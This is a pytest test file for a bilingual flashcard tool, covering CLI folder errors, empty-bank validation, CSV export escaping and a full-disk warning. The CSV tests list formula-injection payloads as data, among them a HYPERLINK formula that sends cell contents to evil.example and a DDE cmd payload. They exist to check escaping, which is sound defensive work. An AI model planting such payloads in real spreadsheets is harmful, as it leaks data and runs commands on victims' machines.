"""Issue 15, item 7 (smaller): the questions CLI's --dir, an empty bank, CSV formula injection,
and "Not saved" told once for one refused rating on a full disk."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from questions.schema import Card
from study import export

ROOT = Path(__file__).resolve().parents[2]


def run(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("TIL_QUESTIONS_DIR", None)
    return subprocess.run([sys.executable, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("cmd", [["search", "softmax"], ["validate"]])
def test_questions_dir_that_does_not_exist_is_a_usage_error(cmd: list[str], tmp_path: Path) -> None:
    res = run("-m", "questions", *cmd, "--dir", str(tmp_path / "nonexistent"))
    assert res.returncode == 2, (res.stdout, res.stderr)
    assert "no such folder" in res.stderr and "nonexistent" in res.stderr
    assert "no match" not in res.stdout and "Traceback" not in res.stderr


def test_questions_dir_that_is_a_file_is_a_usage_error(tmp_path: Path) -> None:
    f = tmp_path / "cards.yaml"
    f.write_text("[]\n", encoding="utf-8")
    res = run("-m", "questions", "search", "softmax", "--dir", str(f))
    assert res.returncode == 2 and "no such folder" in res.stderr


@pytest.mark.parametrize("files", [{}, {"empty.yaml": ""}, {"synonyms.yaml": "groups: []\n"}])
def test_validate_on_a_folder_without_cards_fails(files: dict[str, str], tmp_path: Path) -> None:
    for name, text in files.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    res = run("-m", "questions", "validate", "--dir", str(tmp_path))
    assert res.returncode == 1, res.stdout
    assert "no cards" in res.stdout and "OK" not in res.stdout


def test_validate_still_green_on_one_good_card(tmp_path: Path) -> None:
    card = (ROOT / "questions" / "attention.yaml").read_text(encoding="utf-8")
    (tmp_path / "attention.yaml").write_text(card, encoding="utf-8")
    res = run("-m", "questions", "validate", "--dir", str(tmp_path))
    # related ids into other topic files are problems here; the point is: not "no cards"
    assert "no cards" not in res.stdout


# ---------------------------------------------------------------------------------------------
# CSV export: formula injection

def _card(**texts: str) -> Card:
    base = {"id": "my-card", "topic": "attention", "difficulty": 1, "source": "supplement",
            "question": {"zh": "问题", "en": "question"}, "answer": {"zh": "答案", "en": "answer"},
            "keywords": {"zh": [["a"]], "en": [["b"]]}}
    for key, value in texts.items():
        field, lang = key.split("_")
        base[field][lang] = value
    return Card.model_validate(base)


@pytest.mark.parametrize("payload", [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
    "\t=1+1", "\r=1+1", "=1+1", "==", "-", "@",
])
def test_csv_cells_that_start_like_a_formula_are_escaped(payload: str) -> None:
    text = export.to_csv([_card(question_en=payload, answer_zh=payload)])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "id"
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["question_en"] == "'" + payload
    assert row["answer_zh"] == "'" + payload
    assert row["question_zh"] == "问题"  # ordinary text untouched


@pytest.mark.parametrize("text", ["softmax = exp / sum", "a-b", "x@y", "'quoted", "1+1"])
def test_csv_ordinary_cells_are_unchanged(text: str) -> None:
    rows = list(csv.reader(io.StringIO(export.to_csv([_card(question_en=text)]))))
    assert rows[1][4] == text


def test_csv_cell_helper() -> None:
    assert [export.csv_cell(x) for x in ("=a", "+a", "-a", "@a", "\ta", "\ra", "a=", 3, -1)] == \
        ["'=a", "'+a", "'-a", "'@a", "'\ta", "'\ra", "a=", "3", "'-1"]


# ---------------------------------------------------------------------------------------------
# "Not saved" once for one rating on a full disk

def test_not_saved_is_shown_once_for_one_rating(monkeypatch: pytest.MonkeyPatch) -> None:
    from tests.test_faults_store import errors, fill, open_page, rate_current, tmpfs

    with tmpfs("2m") as d:
        monkeypatch.setenv("TIL_DB", str(d / "progress.sqlite3"))
        at = open_page("flashcards")
        rate_current(at)
        filler = fill(d)
        for _ in range(20):
            rate_current(at)
            msgs = [m for m in errors(at) if m.startswith("Not saved")]
            if msgs:
                break
        else:
            pytest.fail("the page never reported the full disk")
        assert len(msgs) == 1, msgs
        at.run()  # the next run (any widget) does not repeat it either
        assert len([m for m in errors(at) if m.startswith("Not saved")]) <= 1
        filler.unlink()
